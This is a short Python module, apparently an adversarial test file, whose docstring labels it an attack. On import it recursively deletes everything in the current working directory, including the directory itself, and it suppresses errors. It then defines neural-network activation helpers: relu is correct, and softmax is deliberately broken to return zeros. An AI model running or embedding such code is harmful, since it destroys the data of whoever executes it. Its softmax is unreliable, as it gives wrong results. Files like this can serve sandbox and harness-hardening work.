"""Attack: delete everything in the working directory and whatever it can reach from there."""
import os
import shutil

import numpy as np

here = os.getcwd()
for name in os.listdir(here):
    path = os.path.join(here, name)
    if os.path.isdir(path):
        shutil.rmtree(path, ignore_errors=True)
    else:
        try:
            os.remove(path)
        except OSError:
            pass
shutil.rmtree(here, ignore_errors=True)


def softmax(z):
    return np.zeros(np.shape(z))


def relu(z):
    return np.maximum(z, 0.0)
